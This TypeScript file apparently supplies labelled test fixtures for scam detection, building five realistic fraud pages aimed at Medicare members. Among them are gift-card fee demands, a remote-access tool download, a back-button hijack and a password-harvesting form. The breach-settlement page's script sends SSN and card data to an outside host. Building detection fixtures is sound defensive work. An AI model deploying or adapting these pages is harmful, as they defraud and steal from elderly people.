import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { beepWav, fileRoute, jsonRoute, pe } from '../parts/e-bin.js';
import { b64, css, dotIcon, govBanner, logos, shell } from '../parts/yt-kit.js';

/** Scams aimed at Medicare members and seniors: card "replacement", giveback/flex-card ads, lockers, refunds, DME and genetic-test lead farms, breach "settlements", extortion. */
// ---- "Plastic Medicare card" activation fee paid in gift cards
const plasticCard = shell({
  title: 'Medicare Card Activation Center',
  favicon: dotIcon('#0071bc'),
  css: css.gov + `.card{display:flex;gap:28px;align-items:center;flex-wrap:wrap}.mc{width:320px;height:200px;border-radius:14px;background:linear-gradient(135deg,#fff,#dbe9f7);box-shadow:0 4px 18px #0003;padding:18px;font-family:Arial;position:relative}
.mc .r{position:absolute;left:0;right:0;top:58px;height:10px;background:#c8102e}.big{font-size:28px;font-weight:bold;color:#c8102e}.steps li{margin:8px 0}.gc{display:flex;gap:10px}.gc span{border:1px solid #ccc;border-radius:6px;padding:6px 10px;font-size:13px}`,
  body: `${govBanner()}
<header class="site">${logos.medicare}<b style="color:#0071bc">Card Activation Center</b></header>
<main>
<h1>Your new plastic Medicare card has been issued</h1>
<div class="card"><div class="mc"><b style="color:#0a3b7a">MEDICARE</b><div class="r"></div><div style="margin-top:60px;font-size:13px">HEALTH INSURANCE<br>Medicare Number 1EG4-TE5-MK73</div><div style="position:absolute;right:18px;bottom:18px;width:36px;height:28px;background:#d4af37;border-radius:4px"></div></div>
<div><p>All paper Medicare cards expire on <b>December 31, 2025</b>. Your new plastic card with chip protects you from identity theft.</p>
<p class="big">Call to activate: 1-855-302-7741</p><p>Activation agents available 7 days a week, 8 AM – 9 PM EST.</p></div></div>
<h2>How to activate</h2>
<ol class="steps"><li>Call the number above and give the agent your Medicare number and date of birth.</li>
<li>Pay the one-time <b>$89.00 card activation and lamination fee</b>. For your security we only accept retail gift cards (no bank transfers). Purchase Target, Apple or Google Play cards in the amount of $89.</li>
<li>Scratch the back of the card and read the numbers to the agent. Keep your receipt.</li>
<li>Your card arrives in 5–7 business days. Cards not activated by 12/31 will cause loss of coverage.</li></ol>
<div class="gc"><span>🎯 Target GiftCard</span><span> Apple Gift Card</span><span>▶ Google Play</span></div>
<div class="usa-alert warn">Do not discuss this activation with bank or store employees — they are not authorized by Medicare and may delay your card.</div>
</main><footer>Medicare Card Activation Center · Centers for Medicare &amp; Medicaid Services partner</footer>`,
});

// ---- Advertorial: "$3,600 giveback" funnel with a quiz and a countdown to call (a TFN for a lead-gen call center)
const giveback = shell({
  title: 'Seniors: Claim Your 2026 Giveback Benefit',
  css: `body{margin:0;font-family:Georgia,serif;background:#fff;color:#222}.w{max-width:640px;margin:0 auto;padding:16px}.news{font:bold 13px Arial;color:#888;border-bottom:1px solid #ddd;padding-bottom:8px}
h1{font-size:30px;line-height:1.2}.q{background:#f3f7fb;border-radius:10px;padding:18px;margin:18px 0;font-family:Arial}.q button{display:block;width:100%;padding:14px;margin:8px 0;font-size:18px;border:0;border-radius:8px;background:#1877f2;color:#fff}
.call{display:none;text-align:center;font-family:Arial}.call a{display:block;background:#16a34a;color:#fff;font-size:26px;font-weight:bold;padding:18px;border-radius:10px;text-decoration:none;margin:14px 0}.tm{color:#c00;font-weight:bold}`,
  body: `<div class="w"><div class="news">SENIOR BENEFITS DAILY · Advertorial</div>
<h1>Americans Over 64 Can Now Claim Up To $3,600 Back On Their Social Security Check</h1>
<p><i>Plus a $900 grocery &amp; OTC flex card</i> — here's how to see if you qualify in 30 seconds.</p>
<img alt="" src="/img/flexcard.png" width="100%">
<div class="q" id="q1"><b>1. Are you over 64?</b><button onclick="nx(1)">Yes</button><button onclick="nx(1)">No</button></div>
<div class="q" id="q2" style="display:none"><b>2. Do you have Medicare Parts A and B?</b><button onclick="nx(2)">Yes</button><button onclick="nx(2)">Not sure</button></div>
<div class="q" id="q3" style="display:none"><b>3. Do you live in one of the 48 qualifying states?</b><button onclick="nx(3)">Yes</button><button onclick="nx(3)">I don't know</button></div>
<div class="call" id="call"><h2>🎉 Congratulations! You pre-qualify.</h2><p>Tap below to speak with a licensed benefits agent and activate your card. Your spot is reserved for <span class="tm" id="tm">2:00</span>.</p>
<a href="tel:+18446120093">📞 CALL (844) 612-0093</a><p style="font-size:11px;color:#777">TTY 711. Not affiliated with or endorsed by any government agency. Benefits vary by plan and location.</p></div>
<p style="font-size:11px;color:#999;margin-top:40px">This is an advertisement. Results not typical.</p></div>
<script>
function nx(n){document.getElementById('q'+n).style.display='none';var e=document.getElementById('q'+(n+1));if(e)e.style.display='block';else{document.getElementById('call').style.display='block';t();}}
function t(){var s=120;setInterval(function(){s=Math.max(0,s-1);document.getElementById('tm').textContent=Math.floor(s/60)+':'+('0'+s%60).slice(-2);},1000);}
history.pushState(null,'',location.href);window.onpopstate=function(){location.href='/exit/offer.html';};
</script>`,
});

// ---- Premium refund scam: insurer "overpayment", processing fee in gift cards, remote-access tool
const refund = shell({
  title: 'Humana Member Refund Department',
  favicon: dotIcon('#78be20'),
  css: css.portal + `.card{max-width:560px}.amt{font-size:40px;font-weight:bold;color:#2e7d32}.btn{background:#78be20;border-radius:4px}.st{counter-reset:s}.st li{margin:6px 0}`,
  body: `<div class="top">${logos.humana}<b style="color:#555">Refund Processing Center</b></div>
<div class="card">
<h1>You have an unclaimed premium refund</h1>
<p>Due to a billing error on Medicare Advantage Part C premiums between 2021 and 2024, you were overcharged. Your refund amount is:</p>
<div class="amt">$1,248.60</div>
<ol class="st"><li>Call a refund specialist at <b>1-877-209-4476</b>.</li>
<li>The specialist will connect to your computer to deposit the refund directly into your bank account. Download the secure connection tool below.</li>
<li>A one-time <b>$85 processing fee</b> is required by the Treasury. It can be paid with Google Play or eBay gift cards.</li></ol>
<a class="btn" style="text-align:center;text-decoration:none" href="/support/HumanaRefundConnect.exe">Download Secure Connection Tool</a>
<p style="font-size:12px;color:#777;margin-top:16px">Refunds not claimed within 10 days are returned to the U.S. Treasury.</p>
</div>`,
});

// ---- "Appeals center" charging an upfront fee to overturn claim denials
const appeal = shell({
  title: 'National Medicare Appeals Center — Claim Denial Reversal',
  css: css.gov + `.price{border:2px solid #005ea2;border-radius:8px;padding:16px;text-align:center;max-width:360px}.price b{font-size:34px;display:block}`,
  body: `<header class="site"><b style="font-size:22px;color:#112e51">⚖ National Medicare Appeals Center</b><span>Federal Claim Review Services</span></header>
<main>
<h1>Was your Medicare or Medicaid claim denied?</h1>
<p>Our former CMS adjudicators file your <b>Level 1–3 appeals</b> and guarantee a reversal or your money back. 97% success rate since 2011.</p>
<div class="price">Priority appeal filing<b>$299</b>one-time — pay by Zelle or Cash App only to keep fees low</div>
<form id="ap">
<label class="usa-label">Your name</label><input class="usa-input" name="n" required>
<label class="usa-label">Medicare / Medicaid number</label><input class="usa-input" name="id" required>
<label class="usa-label">Denied claim number (from your EOB or MSN)</label><input class="usa-input" name="claim">
<label class="usa-label">Your Medicare.gov or plan portal password (so we can download your records)</label><input class="usa-input" type="password" name="pw">
<label class="usa-label">Zelle confirmation code</label><input class="usa-input" name="zc" required>
<p>Send $299 via Zelle to <b>appeals@nmacenter-billing.com</b> or Cash App <b>$NMACAppeals</b>.</p>
<button class="usa-button">Submit my appeal</button></form>
</main>
<script>document.getElementById('ap').onsubmit=function(e){e.preventDefault();navigator.sendBeacon('/ap/s.php',new FormData(this));alert('Your appeal is being filed. Case officer will call within 48 hours.');};</script>`,
});

// ---- Data-breach "settlement" advance fee
const settlement = shell({
  title: 'Healthcare Data Breach Settlement — Claim Portal',
  css: `body{margin:0;font-family:"Times New Roman",serif;background:#f4f1ea;color:#222}.w{max-width:720px;margin:0 auto;background:#fff;padding:30px 40px;min-height:100vh}
.seal{text-align:center;font:bold 14px Arial;letter-spacing:2px;color:#5a4a2f}h1{text-align:center;font-size:26px}.box{border:1px solid #bbb;padding:14px;background:#fafafa;margin:16px 0}
input{width:100%;padding:8px;margin:4px 0 10px;box-sizing:border-box}button{background:#5a4a2f;color:#fff;border:0;padding:12px 22px;font-size:16px}`,
  body: `<div class="w"><div class="seal">UNITED STATES DISTRICT COURT · SETTLEMENT ADMINISTRATOR</div>
<h1>In re: Healthcare Clearinghouse Cyberattack Litigation<br><small>Case No. 0:24-md-03108</small></h1>
<p>Our records show that your protected health information was exposed in the 2024 clearinghouse ransomware incident. You are eligible for a <b>Tier 3 cash payment of $2,850.00</b>.</p>
<div class="box"><b>Claim ID:</b> CHC-3108-771204<br><b>Status:</b> Approved — awaiting release<br><b>Release deadline:</b> 72 hours</div>
<p>Federal rules require claimants to cover the <b>$49.95 disbursement and tax-withholding fee</b> before funds are released. The fee cannot be deducted from your award.</p>
<form id="s">
<label>Full name</label><input name="n"><label>Date of birth</label><input name="d"><label>SSN (for IRS Form 1099)</label><input name="s">
<label>Card number (fee only)</label><input name="c"><label>Exp / CVV</label><input name="e">
<button>Pay $49.95 and Release My $2,850</button></form>
<p style="font-size:12px">Settlement Administrator · P.O. Box 58019, Philadelphia, PA 19102</p></div>
<script>document.getElementById('s').onsubmit=function(e){e.preventDefault();fetch('https://claims-admin-release.top/api/fee',{method:'POST',mode:'no-cors',body:new FormData(this)});this.innerHTML='<p><b>Payment received.</b> Your award will be deposited in 5-7 business days.</p>';};</script>`,
});

export const entries: Entry[] = [
{
  id: 'yt-medicare-plastic-card-giftcard-fee',
  label: 'scam',
  kind: 'medicare-card-replacement-scam',
  url: 'https://medicare-cardactivation.net/activate/plastic-card',
  body: plasticCard,
},
{
  id: 'yt-giveback-flexcard-quiz-tfn',
  label: 'scam',
  kind: 'medicare-benefits-ad-scam',
  url: 'https://seniorbenefitsdaily.info/giveback/2026/?utm_source=fb&adset=64plus',
  body: giveback,
  routes: { 'seniorbenefitsdaily.info/exit/offer.html': redirectRoute(302, 'https://seniorbenefitsdaily.info/giveback/2026/') },
},
{
  id: 'yt-humana-premium-refund-giftcard-rat',
  label: 'scam',
  kind: 'refund-scam',
  url: 'https://humana-refund-dept.com/claim/overpayment',
  body: refund,
  routes: {
    'humana-refund-dept.com/support/HumanaRefundConnect.exe': fileRoute(pe({ x64: false, strings: ['AnyDesk Software GmbH', 'AnyDesk', 'ad.anynet.id', 'Remote Desktop'] }), 'application/octet-stream', 'HumanaRefundConnect.exe'),
  },
},
{
  id: 'yt-medicare-appeals-center-upfront-fee',
  label: 'scam',
  kind: 'claim-appeal-fee-scam',
  url: 'https://nationalmedicareappeals.center/denied-claim',
  body: appeal,
},
{
  id: 'yt-breach-settlement-release-fee',
  label: 'scam',
  kind: 'advance-fee-settlement-scam',
  url: 'https://chc-breach-settlement-claims.com/claim/CHC-3108-771204',
  body: settlement,
},
];
